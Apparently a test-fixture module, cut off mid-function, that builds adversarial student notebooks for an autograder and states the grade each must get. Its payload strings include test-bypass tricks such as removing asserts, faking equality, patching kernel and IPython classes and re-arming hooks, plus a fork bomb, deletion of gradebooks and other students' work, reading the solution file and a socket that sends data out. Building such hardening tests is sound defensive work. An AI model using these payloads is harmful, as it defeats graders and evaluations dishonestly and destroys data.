"""An adversarial class built from the real ps1 release, and the grade each submission must get.

Every case is a function that writes one student's files into a class folder (one folder per
student, the layout ``course grade --submissions`` accepts), starting from
``release/ps1_bargaining/ps1_bargaining.ipynb`` and filling answer cells with the source's own
solutions wherever the case needs honest parts. :data:`CASES` pairs each case with what the
grader must do with it: the score of every autograded part, the status in grades.csv, and a
piece of text one of its flags must contain (or the reason of a failure, or the fact that the
file is skipped and reported).

Conventions: a "tampered" part is always answered wrongly, so it must score zero however the
tampering goes; all other parts are answered correctly and must keep their points. The ``j_*``
cases (a :attr:`Case.family` each, see :data:`ATTACK_FAMILIES`) are different: each is the blank
release plus cells that attack a test cell running in the student's own interpreter, so every
part must score what the untouched blank release (the ``blank`` case) scores: zero.
"""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

ASSIGNMENT = "ps1_bargaining"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"

#: Wrong answers that still pass the visible form checks (so only hidden tests catch them).
WRONG = {
    "ps1_a2_answer": "min_cost_nk_full = 0.2",
    "ps1_b1_answer": (
        "def optimal_demand(p, cost_us, cost_nk_low, cost_nk_high):\n"
        "    return 0.7 if cost_nk_low == 0 else p + cost_nk_low"
    ),
}
#: b2's answer without calling optimal_demand, so a wrong b1 does not drag b2 down.
# (computed from the student's own variant V, bound by the notebook's variant cell: every corpus
# student has their own numbers, and the grader runs that cell with the id of the submission)
B2_DIRECT = "p_war_shifted = ((V.b_high - V.b_cost_us) / 2 - V.b_low) / (V.b_high - V.b_low)"


@dataclass
class Context:
    """What a case builder needs: the release and source notebooks and where things are."""

    release: NotebookNode
    source: NotebookNode
    course_root: Path
    class_dir: Path
    port: int

    def solution(self, grade_id: str) -> str:
        """The source's answer for ``grade_id`` without the BEGIN/END SOLUTION markers."""
        for cell in self.source.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
                return "\n".join(
                    line for line in cell.source.splitlines()
                    if "### BEGIN SOLUTION" not in line and "### END SOLUTION" not in line
                )
        raise KeyError(grade_id)

    def honest(self) -> NotebookNode:
        """The release with every answer cell holding the source's solution."""
        nb = copy.deepcopy(self.release)
        for cell in nb.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("solution"):
                cell.source = self.solution(meta["grade_id"])
        return nb

    def write(self, sid: str, nb: NotebookNode | str | bytes, name: str = NOTEBOOK) -> Path:
        """Write a student's file: a notebook, or raw text/bytes for broken files."""
        folder = self.class_dir / sid
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / name
        if isinstance(nb, bytes):
            path.write_bytes(nb)
        elif isinstance(nb, str):
            path.write_text(nb, encoding="utf-8")
        else:
            path.write_text(nbformat.writes(nb), encoding="utf-8")
        return path


def _index(nb: NotebookNode, grade_id: str) -> int:
    for i, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def _set(nb: NotebookNode, grade_id: str, text: str) -> NotebookNode:
    nb.cells[_index(nb, grade_id)].source = text
    return nb


def _scratch_after(nb: NotebookNode, grade_id: str, text: str) -> NotebookNode:
    nb.cells.insert(_index(nb, grade_id) + 1, nbformat.v4.new_code_cell(text))
    return nb


def _wrong_a2(ctx: Context, prefix: str = "") -> NotebookNode:
    nb = ctx.honest()
    return _set(nb, "ps1_a2_answer", (prefix + "\n" if prefix else "") + WRONG["ps1_a2_answer"])


@dataclass
class Case:
    """One adversarial submission and the outcome it must have.

    Attributes
    ----------
    sid : str
        The student id (folder name).
    build : callable
        ``build(ctx)`` writes the student's files.
    zero : tuple of str
        Test cells that must score zero (:data:`EVERY_PART`: all of them); every other test
        cell must earn its full points.
    status : str
        ``graded``, ``flagged`` or ``failed`` in grades.csv, or ``skipped`` (not graded,
        reported among the skipped files).
    flag : str
        Text that must appear in the flags (or the failure reason, or the skipped line).
    family : str
        For the attacks on a test cell that runs in the student's own interpreter (see
        :data:`ATTACK_FAMILIES`), the class of attack; empty for the other cases.
    """

    sid: str
    build: Callable[[Context], None]
    zero: tuple[str, ...] = ()
    status: str = "flagged"
    flag: str = ""
    family: str = ""


def _honest(ctx: Context, sid: str) -> None:
    ctx.write(sid, ctx.honest())


def _honest_partial(ctx: Context, sid: str) -> None:
    nb = _wrong_a2(ctx)
    stub = next(c.source for c in ctx.release.cells
                if c.metadata.get("nbgrader", {}).get("grade_id") == "ps1_d2_answer")
    ctx.write(sid, _set(nb, "ps1_d2_answer", stub))


# ---------------------------------------------------------------- structural tampering
def _test_deleted(ctx: Context) -> None:
    nb = _wrong_a2(ctx)
    del nb.cells[_index(nb, "ps1_a2_test")]
    ctx.write("t_test_deleted", nb)


def _test_edited(ctx: Context) -> None:
    ctx.write("t_test_edited", _set(_wrong_a2(ctx), "ps1_a2_test", "pass  # all good"))


def _test_duplicated(ctx: Context) -> None:
    nb = _wrong_a2(ctx)
    i = _index(nb, "ps1_a2_test")
    nb.cells.insert(i + 1, copy.deepcopy(nb.cells[i]))
    nb.cells[i + 1].source = "pass"
    ctx.write("t_test_duplicated", nb)


def _test_split(ctx: Context) -> None:
    nb = _set(ctx.honest(), "ps1_b1_answer", WRONG["ps1_b1_answer"])
    _set(nb, "ps1_b2_answer", B2_DIRECT)
    i = _index(nb, "ps1_b1_test")
    lines = nb.cells[i].source.splitlines()
    second = copy.deepcopy(nb.cells[i])
    nb.cells[i].source = "\n".join(lines[:2])
    second.source = "\n".join(lines[2:])
    second.pop("id", None)
    nb.cells.insert(i + 1, second)
    ctx.write("t_test_split", nb)


def _test_moved(ctx: Context) -> None:
    nb = ctx.honest()
    cell = nb.cells.pop(_index(nb, "ps1_a2_test"))
    nb.cells.insert(0, cell)
    ctx.write("t_test_moved", nb)


def _test_to_markdown(ctx: Context) -> None:
    nb = _wrong_a2(ctx)
    i = _index(nb, "ps1_a2_test")
    old = nb.cells[i]
    nb.cells[i] = nbformat.v4.new_markdown_cell(old.source, metadata=old.metadata)
    ctx.write("t_test_to_markdown", nb)


def _answer_to_markdown(ctx: Context) -> None:
    nb = ctx.honest()
    i = _index(nb, "ps1_a2_answer")
    old = nb.cells[i]
    nb.cells[i] = nbformat.v4.new_markdown_cell(old.source, metadata=old.metadata)
    ctx.write("t_answer_to_markdown", nb)


def _answer_deleted(ctx: Context) -> None:
    nb = ctx.honest()
    del nb.cells[_index(nb, "ps1_a2_answer")]
    ctx.write("t_answer_deleted", nb)


def _unknown_grade_id(ctx: Context) -> None:
    nb = ctx.honest()
    nb.cells.append(nbformat.v4.new_code_cell("print('bonus')", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "grade_id": "bonus", "points": 100,
        "schema_version": 3}}))
    ctx.write("t_unknown_grade_id", nb)


def _points_changed(ctx: Context) -> None:
    nb = _wrong_a2(ctx)
    nb.cells[_index(nb, "ps1_a2_test")].metadata["nbgrader"]["points"] = 100
    ctx.write("t_points_changed", nb)


# ---------------------------------------------------------------- objects that lie
def _always_equal(ctx: Context) -> None:
    nb = _set(ctx.honest(), "ps1_a1_answer", (
        "class AlwaysEqual(str):\n"
        "    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n"
        "    def __lt__(self, other): return True\n"
        "    def __le__(self, other): return True\n"
        "    def __gt__(self, other): return True\n"
        "    def __ge__(self, other): return True\n"
        "    def __hash__(self): return 0\n"
        "    def strip(self): return self\n"
        "    def lower(self): return self\n"
        "    def __float__(self): return 0.25\n"
        "menu_deal = AlwaysEqual('cap')\n"
        "max_fall_p = AlwaysEqual('0.25')"))
    ctx.write("t_always_equal", nb)


def _float_subclass(ctx: Context) -> None:
    ctx.write("t_float_subclass", _set(ctx.honest(), "ps1_a2_answer", (
        "class Exact(float):\n"
        "    def __eq__(self, other): return True\n"
        "    def __sub__(self, other): return 0.0\n"
        "min_cost_nk_full = Exact(0.2)")))


def _fake_numpy_number(ctx: Context) -> None:
    nb = _set(ctx.honest(), "ps1_b1_answer", (
        "import sys\n"
        "class Num(float):\n"
        "    __module__ = 'numpy'   # passes a check of type(x).__module__\n"
        "    def __float__(self):\n"
        "        # peek at the test's expected value in the caller's frame\n"
        "        return sys._getframe(1).f_locals.get('e', float.__float__(self))\n"
        "def optimal_demand(p, cost_us, cost_nk_low, cost_nk_high):\n"
        "    return Num(0.7 if cost_nk_low == 0 else p + cost_nk_low)"))
    ctx.write("t_fake_numpy_number", _set(nb, "ps1_b2_answer", B2_DIRECT))


def _metaclass_eq(ctx: Context) -> None:
    ctx.write("t_metaclass_eq", _set(ctx.honest(), "ps1_a2_answer", (
        "class _Meta(type):\n"
        "    def __eq__(cls, other): return True   # makes type(x) in (int, float) true\n"
        "    __hash__ = type.__hash__\n"
        "class _Num(float, metaclass=_Meta):\n"
        "    def __float__(self): return 0.3\n"
        "min_cost_nk_full = _Num(0.2)")))


# ---------------------------------------------------------------- patching what tests use
def _patch_isclose(ctx: Context) -> None:
    ctx.write("t_patch_isclose", _wrong_a2(ctx, "import math\nmath.isclose = lambda *a, **k: True"))


def _patch_numpy(ctx: Context) -> None:
    ctx.write("t_patch_numpy", _wrong_a2(ctx, (
        "import numpy as np\nimport numpy.testing\n"
        "np.isclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None")))


def _patch_builtins(ctx: Context) -> None:
    nb = _set(ctx.honest(), "ps1_b1_answer", (
        "import builtins\n_real_abs = abs\nbuiltins.abs = lambda x: 0.0\n" + WRONG["ps1_b1_answer"]))
    ctx.write("t_patch_builtins", _set(nb, "ps1_b2_answer", B2_DIRECT))


def _shadow_type(ctx: Context) -> None:
    ctx.write("t_shadow_type", _set(ctx.honest(), "ps1_b2_answer", (
        "type = lambda x: float\np_war_shifted = '0.25'")))


def _patch_course_utils(ctx: Context) -> None:
    ctx.write("t_patch_course_utils", _wrong_a2(ctx, (
        "import course_utils.checks, course_utils.models.bargaining as _b\n"
        "course_utils.checks.ask = lambda *a, **k: None\n"
        "_b.__dict__.clear()")))


#: an AST transformer that turns every assert into a no-op (two cases install it)
_NO_ASSERTS = (
    "class _NoAsserts(ast.NodeTransformer):\n"
    "    def visit_Assert(self, node):\n"
    "        return ast.Pass()\n"
)


def _ast_transformer(ctx: Context) -> None:
    ctx.write("t_ast_transformer", _wrong_a2(ctx, (
        "import ast\n" + _NO_ASSERTS +
        "get_ipython().ast_transformers.append(_NoAsserts())")))


def _custom_exc(ctx: Context) -> None:
    ctx.write("t_custom_exc", _wrong_a2(ctx, (
        "get_ipython().set_custom_exc((Exception,), lambda shell, etype, evalue, tb, tb_offset=None: None)")))


def _silent_traceback(ctx: Context) -> None:
    ctx.write("t_silent_traceback", _wrong_a2(ctx, (
        "_ip = get_ipython()\n"
        "_ip.showtraceback = lambda *a, **k: None\n"
        "_ip._showtraceback = lambda *a, **k: None\n"
        "type(_ip).showtraceback = lambda *a, **k: None")))


def _thread_repatch(ctx: Context) -> None:
    ctx.write("t_thread_repatch", _wrong_a2(ctx, (
        "import ast, threading, time\n" + _NO_ASSERTS +
        "_ip = get_ipython()\n"
        "def _keep_patching():  # puts the transformer back as soon as the grader removes it\n"
        "    while True:\n"
        "        if not any(isinstance(t, _NoAsserts) for t in _ip.ast_transformers):\n"
        "            _ip.ast_transformers.append(_NoAsserts())\n"
        "        time.sleep(0.001)\n"
        "threading.Thread(target=_keep_patching, daemon=True).start()")))


def _env_branching(ctx: Context) -> None:
    ctx.write("t_env_branching", _set(ctx.honest(), "ps1_a2_answer", (
        "import os\n"
        "_grading = any(k.startswith(('NBGRADER', 'COURSE')) for k in os.environ)\n"
        "min_cost_nk_full = 0.3 if _grading else 0.2\n"
        "print('grading' if _grading else 'not grading')")))


# ---------------------------------------------------------------- time, crashes, resources
def _loop_answer(ctx: Context) -> None:
    ctx.write("t_loop_answer", _set(ctx.honest(), "ps1_a2_answer", "while True:\n    pass"))


def _loop_scratch(ctx: Context) -> None:
    ctx.write("t_loop_scratch", _scratch_after(ctx.honest(), "ps1_a1_answer", "while True:\n    pass"))


def _loop_unstoppable(ctx: Context) -> None:
    ctx.write("t_loop_unstoppable", _scratch_after(ctx.honest(), "ps1_c_test", (
        "while True:\n    try:\n        while True:\n            pass\n"
        "    except KeyboardInterrupt:\n        pass")))


def _sys_exit(ctx: Context) -> None:
    ctx.write("t_sys_exit", _scratch_after(ctx.honest(), "ps1_a1_answer", "import sys\nsys.exit(0)"))


def _os_exit(ctx: Context) -> None:
    ctx.write("t_os_exit", _scratch_after(ctx.honest(), "ps1_c_test", "import os\nos._exit(1)"))


def _kill_kernel(ctx: Context) -> None:
    ctx.write("t_kill_kernel", _scratch_after(ctx.honest(), "ps1_b2_test",
                                               "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"))


def _memory_bomb(ctx: Context) -> None:
    ctx.write("t_memory_bomb", _set(ctx.honest(), "ps1_a2_answer", (
        "import numpy as np\n"
        "_hoard = [np.empty(2**27) for _ in range(64)]  # 64 GiB, asked for without touching it\n"
        "min_cost_nk_full = 0.3")))


def _fork_bomb(ctx: Context) -> None:
    ctx.write("t_fork_bomb", _scratch_after(ctx.honest(), "ps1_a1_answer", (
        "import os, time\n_children = 0\n"
        "for _ in range(400):\n"
        "    try:\n"
        "        if os.fork() == 0:\n"
        "            time.sleep(120)\n"
        "            os._exit(0)\n"
        "        _children += 1\n"
        "    except OSError:\n"
        "        break\n"
        "print('children:', _children)")))


def _big_print(ctx: Context) -> None:
    ctx.write("t_big_print", _scratch_after(ctx.honest(), "ps1_a1_answer",
                                             "for _ in range(200_000):\n    print('x' * 500)"))


def _big_image(ctx: Context) -> None:
    ctx.write("t_big_image", _scratch_after(ctx.honest(), "ps1_a1_answer", (
        "from IPython.display import display\n"
        "display({'image/png': 'iVBORw0KGgo' + 'A' * 30_000_000}, raw=True)")))


# ---------------------------------------------------------------- reaching outside
def _write_gradebook(ctx: Context) -> None:
    gb = ctx.course_root / "gradebook.db"
    ctx.write("t_write_gradebook", _scratch_after(ctx.honest(), "ps1_a1_answer", (
        f"for _p in ({str(gb)!r}, 'gradebook.db', '../gradebook.db', '../../gradebook.db'):\n"
        "    try:\n"
        "        with open(_p, 'w') as _f:\n"
        "            _f.write('overwritten by a student')\n"
        "    except OSError as _e:\n"
        "        print('refused', _p, _e)\n"
        "import os\n"
        f"try:\n    os.remove({str(gb)!r})\nexcept OSError as _e:\n    print('refused', _e)")))


def _delete_students(ctx: Context) -> None:
    targets = [ctx.course_root / "submitted" / "honest_1", ctx.class_dir / "honest_1",
               ctx.course_root / "autograded", ctx.course_root / "reports"]
    ctx.write("t_delete_students", _scratch_after(ctx.honest(), "ps1_a1_answer", (
        "import shutil\n"
        f"for _p in {[str(t) for t in targets]!r}:\n"
        "    shutil.rmtree(_p, ignore_errors=True)")))


def _delete_source(ctx: Context) -> None:
    src = ctx.course_root / "source"
    ctx.write("t_delete_source", _scratch_after(ctx.honest(), "ps1_a1_answer", (
        f"import shutil\nshutil.rmtree({str(src)!r}, ignore_errors=True)")))


def _read_source(ctx: Context) -> None:
    path = ctx.course_root / "source" / ASSIGNMENT / NOTEBOOK
    ctx.write("t_read_source", _set(ctx.honest(), "ps1_a2_answer", (
        "import json\n"
        "try:\n"
        f"    _nb = json.load(open({str(path)!r}))\n"
        "    _code = [''.join(c['source']) for c in _nb['cells']\n"
        "             if c['metadata'].get('nbgrader', {}).get('grade_id') == 'ps1_a2_answer'][0]\n"
        "    exec(_code)\n"
        "except Exception as _e:\n"
        "    print('no luck:', type(_e).__name__)")))


def _network(ctx: Context) -> None:
    ctx.write("t_network", _scratch_after(ctx.honest(), "ps1_a1_answer", (
        "import socket\n"
        "for _host in ('127.0.0.1', '1.1.1.1'):\n"
        "    try:\n"
        f"        socket.create_connection((_host, {ctx.port}), timeout=2).sendall(b'leak')\n"
        "        print('connected to', _host)\n"
        "    except OSError as _e:\n"
        "        print('no network:', _e)")))


def _symlink_in_folder(ctx: Context) -> None:
    nb = ctx.honest()
    ctx.write("t_symlink_in_folder", nb)
    os.symlink(ctx.course_root / "gradebook.db", ctx.class_dir / "t_symlink_in_folder" / "gradebook.db")
    os.symlink(ctx.course_root / "source", ctx.class_dir / "t_symlink_in_folder" / "source")


# ---------------------------------------------------------------- files the class grader sees
def _invalid_json(ctx: Context) -> None:
    ctx.write("c_invalid_json", '{"cells": [{"cell_type": "code", "source": ')


def _nbformat3(ctx: Context) -> None:
    v3 = nbformat.convert(ctx.honest(), 3)
    ctx.write("c_nbformat3", json.dumps(v3))


def _empty_file(ctx: Context) -> None:
    ctx.write("c_empty_file", b"")


def _wrong_name(ctx: Context) -> None:
    ctx.write("c_wrong_name", ctx.honest(), name="ps1.ipynb")


def _extra_notebooks(ctx: Context) -> None:
    ctx.write("c_extra_notebooks", ctx.honest())
    ctx.write("c_extra_notebooks", ctx.honest(), name="scratch_work.ipynb")


def _non_ascii_id(ctx: Context) -> None:
    ctx.write("zoë_ñ", ctx.honest())


def _traversal_id(ctx: Context) -> None:
    ctx.class_dir.mkdir(parents=True, exist_ok=True)
    (ctx.class_dir / "x..%2F..%2Fescaped_ps1_bargaining.ipynb").write_text(nbformat.writes(ctx.honest()))


def _symlinked_notebook(ctx: Context) -> None:
    folder = ctx.class_dir / "c_symlinked_notebook"
    folder.mkdir(parents=True, exist_ok=True)
    os.symlink(ctx.course_root / "source" / ASSIGNMENT / NOTEBOOK, folder / NOTEBOOK)


def _symlinked_folder(ctx: Context) -> None:
    ctx.class_dir.mkdir(parents=True, exist_ok=True)
    os.symlink(ctx.class_dir / "honest_1", ctx.class_dir / "c_symlinked_folder")


# ---------------------------------------------------------------- attacks on a test cell in the student's interpreter
# Each of these starts from the *blank* release (every answer cell keeps its stub) and adds cells
# of attack, so any point it earns is a bypass. Where an attack needs the answer names to exist
# (to survive a test with its asserts removed, say), its own cells bind them to wrong values
# (:func:`_wrong_answers`); where it swaps the numbers for objects that lie, it binds them to
# those. Every part must score what the blank notebook scores: zero.

#: ``zero`` meaning every autograded part of the assignment, whatever its test cells are
EVERY_PART = ("*",)

#: the classes of attack that only a judge outside the student's process stops (issue 12)
ATTACK_FAMILIES = {
    "traitlets": "state IPython keeps in traitlets or helper objects, not in vars() of the shell",
    "class-patch": "class-level patches of IPython and ipykernel helper classes",
    "class-swap": "an object's __class__ swapped",
    "interpreter-hook": "interpreter hooks that re-arm after a guard",
    "ctypes": "writes into type objects through ctypes",
    "caller-frame": "reading the calling test's frame",
    "import-hook": "import-system hooks that hand a test a fake",
}


def _wrong_answers(number: str = "0.5", demand: str = "0.9", share: str = "0.5",
                   rounds: str = "1") -> dict[str, str]:
    """Cells that bind every answer name to a wrong value (each passes the visible form checks,
    except the two functions' value checks), keyed by the answer cell they follow."""
    return {
        "ps1_a1_answer": f'menu_deal = "none"\nmax_fall_p = {number}',
        "ps1_a2_answer": f"min_cost_nk_full = {number}",
        "ps1_b1_answer": f"def optimal_demand(p, cost_us, cost_nk_low, cost_nk_high):\n    return {demand}",
        "ps1_b2_answer": f"p_war_shifted = {number}",
        "ps1_c_answer": f"nk_gain = {number}\nd_nk_needed = {number}",
        "ps1_d1_answer": f"def first_round_share(delta_proposer, delta_responder, rounds):\n    return {share}",
        "ps1_d2_answer": f"rounds_needed = {rounds}",
        "ps1_e_answer": f'best_guarantee = "troops"\nmax_denuclearization = {number}',
    }


def _attack(ctx: Context, sid: str, *cells: str, answers: dict[str, str] | None = None) -> None:
    """The blank release, the attack's cells after the set-up cell, and (if given) the
    attack's own wrong answers each after its answer cell's stub."""
    nb = copy.deepcopy(ctx.release)
    for text in reversed(cells):
        _scratch_after(nb, "ps1_setup", text)
    for grade_id, text in (answers or {}).items():
        if any(c.metadata.get("nbgrader", {}).get("grade_id") == grade_id for c in nb.cells):
            _scratch_after(nb, grade_id, text)
    ctx.write(sid, nb)


def _blank(ctx: Context) -> None:
    ctx.write("blank", copy.deepcopy(ctx.release))


#: a callback (any arguments) that puts the assert-removing transformer back when it is missing
_REARM = (
    "def _rearm(*args):\n"
    "    if not any(isinstance(t, _NoAsserts) for t in _ip.ast_transformers):\n"
    "        _ip.ast_transformers.append(_NoAsserts())\n"
)

#: numbers that lie: any difference is zero, any int equals anything; the classes claim numpy.
#: An attack may bind the test's ``float`` and ``int`` to them for one call: making one takes
#: the names away again, so the test's next type check sees the real ``float`` and ``int``.
_LIARS = (
    "_names = globals()\n"
    "def _lied():\n"
    "    _names.pop('float', None), _names.pop('int', None)\n"
    "class _Zero(float):\n"
    "    __module__ = 'numpy'\n"
    "    def __new__(cls, *args):\n"
    "        _lied()\n"
    "        return super().__new__(cls, *args)\n"
    "    def __sub__(self, other): return 0.0\n"
    "    def __rsub__(self, other): return 0.0\n"
    "class _AnyInt(int):\n"
    "    __module__ = 'numpy'\n"
    "    def __new__(cls, *args):\n"
    "        _lied()\n"
    "        return super().__new__(cls, *args)\n"
    "    def __eq__(self, other): return True\n"
    "    __hash__ = int.__hash__\n"
)


# -- (1) state kept in traitlets or helper objects, which a guard restoring vars() never sees
def _trait_transformer_manager(ctx: Context) -> None:
    _attack(ctx, "j_trait_transformer_manager", (
        "from IPython.core.inputtransformer2 import TransformerManager\n"
        "class _Blind(TransformerManager):\n"
        "    def transform_cell(self, cell):\n"
        "        if 'assert ' in cell:  # a test cell: run nothing instead\n"
        "            return 'pass\\n'\n"
        "        return super().transform_cell(cell)\n"
        "# a trait: the value lives in the shell's _trait_values, not in vars(shell)\n"
        "get_ipython().input_transformer_manager = _Blind()"))


def _trait_session(ctx: Context) -> None:
    _attack(ctx, "j_trait_session", (
        "from jupyter_client.session import Session\n"
        "_ip = get_ipython()\n"
        "class _Agreeable(Session):\n"
        "    def send(self, stream, msg_or_type, content=None, parent=None, *args, **kwargs):\n"
        "        kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('msg_type')\n"
        "        if kind == 'error':  # the traceback never reaches the grader\n"
        "            return None\n"
        "        if kind == 'execute_reply' and isinstance(content, dict) and content.get('status') != 'ok':\n"
        "            content = {'status': 'ok', 'execution_count': content.get('execution_count'),\n"
        "                       'user_expressions': {}, 'payload': []}\n"
        "        return super().send(stream, msg_or_type, content, parent, *args, **kwargs)\n"
        "_old = _ip.kernel.session\n"
        "_new = _Agreeable(parent=_ip.kernel, key=_old.key, signature_scheme=_old.signature_scheme,\n"
        "                  session=_old.session, username=_old.username)\n"
        "# traits of the kernel and of the display hook: not in vars() of either\n"
        "_ip.kernel.session = _new\n"
        "_ip.displayhook.session = _new\n"
        "_ip.display_pub.session = _new"), answers=_wrong_answers())


def _trait_events(ctx: Context) -> None:
    _attack(ctx, "j_trait_events", (
        "import ast\n" + _NO_ASSERTS +
        "_ip = get_ipython()\n" + _REARM +
        "class _Sticky(dict):\n"
        "    # a guard that resets the callback lists in place reads them through here,\n"
        "    # and so does every trigger: the callback is back each time\n"
        "    def __getitem__(self, key):\n"
        "        found = dict.__getitem__(self, key)\n"
        "        if key == 'pre_execute' and _rearm not in found:\n"
        "            found.append(_rearm)\n"
        "        return found\n"
        "_ip.events.callbacks = _Sticky(_ip.events.callbacks)"), answers=_wrong_answers())


# -- (2) class-level patches of IPython and ipykernel classes
def _patch_do_execute(ctx: Context) -> None:
    _attack(ctx, "j_patch_do_execute", (
        "from ipykernel.ipkernel import IPythonKernel\n"
        "_real_do_execute = IPythonKernel.do_execute\n"
        "async def _do_execute(self, code, silent, *args, **kwargs):\n"
        "    if 'assert ' in code:  # a test cell: answer that it passed, run nothing\n"
        "        return {'status': 'ok', 'execution_count': self.shell.execution_count,\n"
        "                'user_expressions': {}, 'payload': []}\n"
        "    try:\n"
        "        return await _real_do_execute(self, code, silent, *args, **kwargs)\n"
        "    finally:  # a guard run by this very request puts the original back: undo that\n"
        "        IPythonKernel.do_execute = _do_execute\n"
        "IPythonKernel.do_execute = _do_execute"))


def _patch_execution_result(ctx: Context) -> None:
    _attack(ctx, "j_patch_execution_result", (
        "import json\n"
        "from IPython.core.interactiveshell import ExecutionResult\n"
        "from ipykernel.iostream import IOPubThread\n"
        "# every cell succeeded, so every execute_reply says 'ok'\n"
        "ExecutionResult.success = property(lambda self: True)\n"
        "_real_send = IOPubThread.send_multipart\n"
        "def _send_multipart(self, parts, *args, **kwargs):\n"
        "    try:  # drop the 'error' messages that carry a failed test's traceback\n"
        "        frames = [bytes(p) for p in parts]\n"
        "        header = json.loads(frames[frames.index(b'<IDS|MSG>') + 2])\n"
        "        if header.get('msg_type') == 'error':\n"
        "            return None\n"
        "    except Exception:\n"
        "        pass\n"
        "    return _real_send(self, parts, *args, **kwargs)\n"
        "IOPubThread.send_multipart = _send_multipart"), answers=_wrong_answers())


def _patch_run_cell(ctx: Context) -> None:
    _attack(ctx, "j_patch_run_cell", (
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "_real_run_cell, _real_user_expressions = InteractiveShell.run_cell, InteractiveShell.user_expressions\n"
        "def _run_cell(self, raw_cell, *args, **kwargs):\n"
        "    if 'assert ' in raw_cell:  # a test cell: run nothing instead\n"
        "        raw_cell = 'pass'\n"
        "    return _real_run_cell(self, raw_cell, *args, **kwargs)\n"
        "def _user_expressions(self, expressions):\n"
        "    try:  # a guard called as a user expression runs in here...\n"
        "        return _real_user_expressions(self, expressions)\n"
        "    finally:  # ...and the patches are back as soon as it returns\n"
        "        InteractiveShell.run_cell = _run_cell\n"
        "        InteractiveShell.user_expressions = _user_expressions\n"
        "InteractiveShell.run_cell = _run_cell\n"
        "InteractiveShell.user_expressions = _user_expressions"))


# -- (3) an object's class swapped for a subclass that lies
def _swap_shell_class(ctx: Context) -> None:
    _attack(ctx, "j_swap_shell_class", (
        "_ip = get_ipython()\n"
        "class _Shell(type(_ip)):\n"
        "    def transform_cell(self, raw_cell):\n"
        "        if 'assert ' in raw_cell:  # a test cell: run nothing instead\n"
        "            return 'pass\\n'\n"
        "        return super().transform_cell(raw_cell)\n"
        "_ip.__class__ = _Shell"))


def _swap_kernel_class(ctx: Context) -> None:
    _attack(ctx, "j_swap_kernel_class", (
        "_kernel = get_ipython().kernel\n"
        "class _Kernel(type(_kernel)):\n"
        "    async def do_execute(self, code, silent, *args, **kwargs):\n"
        "        if 'assert ' in code:  # a test cell: answer that it passed, run nothing\n"
        "            return {'status': 'ok', 'execution_count': self.shell.execution_count,\n"
        "                    'user_expressions': {}, 'payload': []}\n"
        "        return await super().do_execute(code, silent, *args, **kwargs)\n"
        "_kernel.__class__ = _Kernel"))


def _swap_module_class(ctx: Context) -> None:
    _attack(ctx, "j_swap_module_class", (
        "import sys, types\n" + _LIARS +
        "class _Numpy(types.ModuleType):\n"
        "    def __getattribute__(self, name):\n"
        "        if name in ('float64', 'int64'):  # a hidden test's type check: rebind its float and int\n"
        "            _names.update(float=_Zero, int=_AnyInt)\n"
        "        return super().__getattribute__(name)\n"
        "# the same module object, so a guard that puts it back in sys.modules keeps the new class\n"
        "sys.modules['numpy'].__class__ = _Numpy"), answers=_wrong_answers())


# -- (4) interpreter hooks that re-arm after a guard
def _hook_audit(ctx: Context) -> None:
    _attack(ctx, "j_hook_audit", (
        "import ast, sys\n"
        "def _audit(event, args):\n"
        "    # compile() is audited with the very AST it is about to compile: take the asserts out\n"
        "    if event != 'compile' or not args or not isinstance(args[0], ast.AST):\n"
        "        return\n"
        "    try:\n"
        "        for node in ast.walk(args[0]):\n"
        "            for field in ('body', 'orelse', 'finalbody'):\n"
        "                block = getattr(node, field, None)\n"
        "                if isinstance(block, list):\n"
        "                    block[:] = [ast.copy_location(ast.Pass(), s) if isinstance(s, ast.Assert) else s\n"
        "                                for s in block]\n"
        "    except Exception:\n"
        "        pass\n"
        "sys.addaudithook(_audit)  # can never be removed"), answers=_wrong_answers())


def _hook_signal_timer(ctx: Context) -> None:
    _attack(ctx, "j_hook_signal_timer", (
        "import ast, signal\n" + _NO_ASSERTS +
        "_ip = get_ipython()\n" + _REARM +
        "signal.signal(signal.SIGALRM, _rearm)  # runs in the main thread, between any two bytecodes\n"
        "signal.setitimer(signal.ITIMER_REAL, 0.002, 0.002)"), answers=_wrong_answers())


def _hook_gc_callback(ctx: Context) -> None:
    _attack(ctx, "j_hook_gc_callback", (
        "import ast, gc\n" + _NO_ASSERTS +
        "_ip = get_ipython()\n" + _REARM +
        "gc.callbacks.append(_rearm)  # runs at every collection...\n"
        "gc.set_threshold(10)  # ...which parsing a test cell's code triggers"), answers=_wrong_answers())


#: a loop that keeps the assert-removing transformer installed, to run in a disguised thread
_KEEP_PATCHING = (
    "import ast, threading, time\n" + _NO_ASSERTS +
    "def _keep_patching(ip):\n"
    "    while True:\n"
    "        if not any(isinstance(t, _NoAsserts) for t in ip.ast_transformers):\n"
    "            ip.ast_transformers.append(_NoAsserts())\n"
    "        time.sleep(0.0005)\n"
)


def _hook_thread_numpy(ctx: Context) -> None:
    _attack(ctx, "j_hook_thread_numpy", (
        "import numpy, threading\n"
        f"_code = {_KEEP_PATCHING!r}\n"
        "_ns = {'__name__': 'numpy.core._internal'}\n"
        "exec(compile(_code, numpy.__file__, 'exec'), _ns)  # its frames claim to be numpy's\n"
        "threading.Thread(target=_ns['_keep_patching'], args=(get_ipython(),), daemon=True).start()"),
        answers=_wrong_answers())


def _hook_thread_ipython(ctx: Context) -> None:
    code = _KEEP_PATCHING + (
        "class HistorySavingThread(threading.Thread):  # the name of IPython's own thread\n"
        "    def __init__(self, ip):\n"
        "        super().__init__(name='IPythonHistorySavingThread', daemon=True)\n"
        "        self.ip = ip\n"
        "    def run(self):\n"
        "        _keep_patching(self.ip)\n"
    )
    _attack(ctx, "j_hook_thread_ipython", (
        "import IPython.core.history\n"
        f"_code = {code!r}\n"
